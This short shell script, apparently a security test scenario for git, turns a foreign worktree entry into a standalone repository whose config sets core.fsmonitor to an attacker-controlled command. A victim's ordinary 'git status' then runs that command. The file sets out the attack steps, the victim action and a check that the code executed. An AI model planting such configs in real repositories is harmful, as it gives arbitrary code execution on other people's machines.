# A foreign entry without `commondir` is a repository of its own, with a configuration of the attacker.
attack() {
    evil
    rm "$ENTRY/commondir"
    mkdir "$ENTRY/objects" "$ENTRY/refs"
    git config -f "$ENTRY/config" core.fsmonitor "$EVIL"
    git config -f "$ENTRY/config" core.bare false
    git config -f "$ENTRY/config" core.repositoryformatversion 0
}
human() {
    git -C "$VICTIM" status
}
harmed() {
    executed
}
